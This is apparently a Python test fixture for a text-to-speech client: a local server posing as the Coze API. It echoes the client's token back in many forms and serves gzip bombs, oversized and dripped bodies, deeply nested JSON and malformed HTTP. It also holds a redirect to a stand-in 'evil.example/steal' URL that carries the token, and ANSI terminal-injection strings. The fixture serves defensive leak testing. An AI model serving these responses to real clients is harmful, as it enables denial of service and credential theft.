"""A hostile Coze look-alike for the leak and bound tests (no tests here).

It echoes the ``Authorization`` header back in every way it can (JSON ``msg`` and ``logid``,
an HTML page with the token as is, as entities and in base64, a text/plain 200, a redirect's
``Location``, every field of the voice list, response headers, ANSI escapes around it) and
answers giant bodies, gzip bombs, bodies dripped a byte at a time and hostile Retry-After
values. Its traffic is bounded: a giant body stops after ``GIANT_BYTES``, a drip after
``DRIP_SECONDS``, and the server runs on 127.0.0.1 on an ephemeral port.

``HostileServer.mode`` picks the answer of the speech endpoint; ``retry_after`` the value of
that header for the ``retry_after`` mode. It runs in its own thread, so subprocesses and
async tests alike can use it.
"""

from __future__ import annotations

import asyncio
import base64
import concurrent.futures
import gzip
import html
import io
import json
import threading
import wave
from collections.abc import Awaitable, Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from functools import lru_cache
from urllib.parse import quote

from aiohttp import web

GIANT_BYTES = 700 * 1024 * 1024  # the 700 MB body; never sent whole to a client
BOMB_DECODED_BYTES = 256 * 1024 * 1024
DRIP_SECONDS = 30.0
CONTROL = "\x1b[2J\x1b[31m\x1b]0;pwned\x07\r\u202e"

MODES = (
    "ok", "json_msg", "json_200", "json_escaped", "html_502", "text_200", "redirect",
    "control", "header_echo", "giant", "giant_declared", "gzip_bomb", "gzip_error_bomb",
    "huge_error", "deep_json", "drip", "retry_after", "alternate",
)
LEAKING_MODES = (
    "json_msg", "json_200", "json_escaped", "html_502", "text_200", "redirect", "control",
    "header_echo",
)


@dataclass
class HostileServer:
    """State shared by the test's thread and the server's loop (plain attributes only)."""

    mode: str = "ok"
    retry_after: str = "1"
    base_url: str = ""
    requests: int = 0
    bytes_sent: int = 0
    authorizations: list[str] = field(default_factory=list)


def _token(request: web.Request) -> tuple[str, str]:
    """The Authorization header as sent, and the bare token in it."""
    auth = request.headers.get("Authorization", "")
    return auth, auth.removeprefix("Bearer ")


def _echo_headers(auth: str) -> dict[str, str]:
    return {"X-Tt-Logid": auth, "X-Echo": auth, "Server": auth, "WWW-Authenticate": auth}


def wav_bytes(seconds: float = 0.1, rate: int = 24000) -> bytes:
    buffer = io.BytesIO()
    with wave.open(buffer, "wb") as w:
        w.setnchannels(1)
        w.setsampwidth(2)
        w.setframerate(rate)
        w.writeframes(b"\x10\x00" * int(seconds * rate))
    return buffer.getvalue()


@lru_cache(maxsize=2)
def gzip_bomb(decoded: int = BOMB_DECODED_BYTES) -> bytes:
    """``decoded`` zero bytes, gzipped: about a thousandth of that on the wire."""
    out = io.BytesIO()
    block = bytes(1024 * 1024)
    with gzip.GzipFile(fileobj=out, mode="wb", compresslevel=9) as z:
        for _ in range(decoded // len(block)):
            z.write(block)
    return out.getvalue()


def _leak_page(auth: str, token: str) -> str:
    b64 = base64.b64encode(auth.encode()).decode()
    entities = "".join(f"&#{ord(c)};" for c in token)
    return (
        f"<html><head><title>502 {auth}</title></head><body><h1>Bad gateway</h1>"
        f"<p>you sent {auth}</p><p>{entities}</p><p>basic {b64}</p>"
        f"<p>{html.escape(CONTROL)}</p></body></html>"
    )


def _leaking_answer(mode: str, auth: str, token: str) -> web.Response:
    headers = _echo_headers(auth)
    if mode in ("json_msg", "json_200", "control", "json_escaped"):
        msg = {
            "json_msg": f"invalid parameter near {auth}",
            "json_200": f"model busy for {token}",
            "control": f"{CONTROL}{token}{CONTROL}",
            "json_escaped": token,
        }[mode]
        body = json.dumps(
            {"code": 4013 if mode == "json_200" else 4000, "msg": msg,
             "detail": {"logid": token}},
            ensure_ascii=mode == "json_escaped",
        )
        if mode == "json_escaped":  # every character as \\uXXXX: only a JSON parser sees it
            body = body.replace(json.dumps(token), '"' + "".join(
                f"\\u{ord(c):04x}" for c in token) + '"')
        status = 200 if mode == "json_200" else 400
        return web.Response(status=status, text=body, content_type="application/json",
                            headers=headers)
    if mode == "html_502":
        return web.Response(status=502, text=_leak_page(auth, token), content_type="text/html",
                            headers=headers)
    if mode == "text_200":
        return web.Response(text=f"hello {auth}\n{token}", content_type="text/plain",
                            headers=headers)
    if mode == "redirect":
        headers["Location"] = f"https://evil.example/steal?t={quote(token)}&a={token}"
        return web.Response(status=302, headers=headers)
    # header_echo: a 503 whose only leaks are the headers.
    return web.Response(status=503, text="", headers=headers)


async def _stream(request: web.Request, server: HostileServer, status: int, media: str,
                  total: int, chunk: bytes, pause: float = 0.0, **headers: str) -> \
        web.StreamResponse:
    response = web.StreamResponse(status=status, headers={"Content-Type": media, **headers})
    await response.prepare(request)
    sent = 0
    loop = asyncio.get_running_loop()
    deadline = loop.time() + DRIP_SECONDS
    try:
        while sent < total and loop.time() < deadline:
            await response.write(chunk)
            sent += len(chunk)
            server.bytes_sent += len(chunk)
            if pause:
                await asyncio.sleep(pause)
    except (ConnectionError, RuntimeError):
        pass  # the client hung up, as it should
    return response


def _speech_handler(server: HostileServer) -> Callable[[web.Request], Awaitable[
        web.StreamResponse]]:
    async def speech(request: web.Request) -> web.StreamResponse:
        server.requests += 1
        auth, token = _token(request)
        server.authorizations.append(auth)
        mode = server.mode
        if mode == "alternate":  # a leaking transient error, then audio: retries succeed
            mode = "html_502" if server.requests % 2 else "ok"
        if mode in LEAKING_MODES:
            return _leaking_answer(mode, auth, token)
        if mode == "ok":
            body = await request.json()
            rate = body.get("sample_rate", 24000) if isinstance(body, dict) else 24000
            return web.Response(body=wav_bytes(rate=rate), content_type="audio/wav",
                                headers=_echo_headers(auth))
        if mode == "giant":
            return await _stream(request, server, 200, "audio/mpeg", GIANT_BYTES,
                                 bytes(1024 * 1024))
        if mode == "giant_declared":  # says how big it is: refused before any read
            return await _stream(request, server, 200, "audio/mpeg", GIANT_BYTES,
                                 bytes(1024 * 1024), **{"Content-Length": str(GIANT_BYTES)})
        if mode in ("gzip_bomb", "gzip_error_bomb"):
            status, media = (200, "audio/wav") if mode == "gzip_bomb" else (500, "text/html")
            return web.Response(status=status, body=gzip_bomb(), content_type=media,
                                headers={"Content-Encoding": "gzip"})
        if mode == "huge_error":
            return await _stream(request, server, 500, "text/html", 50 * 1024 * 1024,
                                 (f"<p>{auth}</p>" * 4000).encode())
        if mode == "deep_json":
            depth = 60_000
            return web.Response(status=500, text="[" * depth + "]" * depth,
                                content_type="application/json")
        if mode == "drip":
            return await _stream(request, server, 200, "audio/wav", 10_000, b"\0", 0.05)
        if mode == "retry_after":
            return web.Response(status=429, text="slow down", content_type="text/plain",
                                headers={"Retry-After": server.retry_after})
        raise web.HTTPInternalServerError(text=f"unknown mode {mode}")

    return speech


def _voices_handler(server: HostileServer) -> Callable[[web.Request], Awaitable[
        web.Response]]:
    async def voices(request: web.Request) -> web.Response:
        server.requests += 1
        auth, token = _token(request)
        echoed = f"{CONTROL}{token}"
        fields = ("name", "language_code", "language_name", "model_type", "state",
                  "preview_text", "preview_audio")
        item: dict[str, object] = {f: echoed for f in fields}
        item["voice_id"] = f"v-{token}"
        item["support_emotions"] = [{"emotion": token}, {"emotion": auth}]
        # The voice the test jobs use is listed too (run checks voices before paying), with
        # the same echoing fields, so that the run path reads them as well.
        usable = {**item, "voice_id": "local-tone-1"}
        data = {"has_more": False, "voice_list": [item, usable]}
        return web.json_response({"code": 0, "msg": "", "data": data},
                                 headers=_echo_headers(auth))

    return voices


MALFORMED = {
    # aiohttp's parser errors quote the bytes they choke on: here, the echoed token.
    "status": b"HTTP/1.1 2x0 %s\r\n\r\n",
    "header": b"HTTP/1.1 200 OK\r\nX-Bad\x01: %s\r\nContent-Length: 2\r\n\r\nhi",
    "chunk": b"HTTP/1.1 200 OK\r\nContent-Type: audio/wav\r\nTransfer-Encoding: chunked"
             b"\r\n\r\nzz%s\r\n",
}


def _malformed_handler(server: HostileServer) -> Callable[
        [asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]:
    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        server.requests += 1
        try:
            head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
            auth = next((line.split(b":", 1)[1].strip() for line in head.split(b"\r\n")
                         if line.lower().startswith(b"authorization:")), b"")
            writer.write(MALFORMED[server.mode] % auth)
            await writer.drain()
        except (ConnectionError, asyncio.IncompleteReadError, TimeoutError):
            pass
        finally:
            writer.close()

    return handle


@contextmanager
def _in_thread(server: HostileServer, start: Callable[[], Awaitable[Callable[[], Awaitable[
        None]]]]) -> Iterator[HostileServer]:
    """Run ``start`` (which returns its cleanup) on a loop in a daemon thread until exit."""
    ready: concurrent.futures.Future[tuple[asyncio.AbstractEventLoop, asyncio.Event]] = (
        concurrent.futures.Future()
    )

    async def main() -> None:
        cleanup = await start()
        stop = asyncio.Event()
        ready.set_result((asyncio.get_running_loop(), stop))
        try:
            await stop.wait()
        finally:
            await cleanup()

    thread = threading.Thread(target=lambda: asyncio.run(main()), daemon=True)
    thread.start()
    loop, stop = ready.result(timeout=10)
    try:
        yield server
    finally:
        loop.call_soon_threadsafe(stop.set)
        thread.join(timeout=10)


@contextmanager
def hostile_server() -> Iterator[HostileServer]:
    """A started hostile server in its own thread; stopped (and its thread ended) on exit."""
    server = HostileServer()
    app = web.Application()
    app.router.add_post("/v1/audio/speech", _speech_handler(server))
    app.router.add_get("/v1/audio/voices", _voices_handler(server))

    async def start() -> Callable[[], Awaitable[None]]:
        runner = web.AppRunner(app, handler_cancellation=True)
        await runner.setup()
        site = web.TCPSite(runner, "127.0.0.1", 0)
        await site.start()
        server.base_url = f"http://127.0.0.1:{runner.addresses[0][1]}"
        return runner.cleanup

    with _in_thread(server, start) as started:
        yield started


@contextmanager
def malformed_server() -> Iterator[HostileServer]:
    """A raw TCP server answering broken HTTP (``MALFORMED[mode]``) with the token inside."""
    server = HostileServer(mode="status")

    async def start() -> Callable[[], Awaitable[None]]:
        tcp = await asyncio.start_server(_malformed_handler(server), "127.0.0.1", 0)
        server.base_url = f"http://127.0.0.1:{tcp.sockets[0].getsockname()[1]}"

        async def cleanup() -> None:
            tcp.close()
            await tcp.wait_closed()

        return cleanup

    with _in_thread(server, start) as started:
        yield started
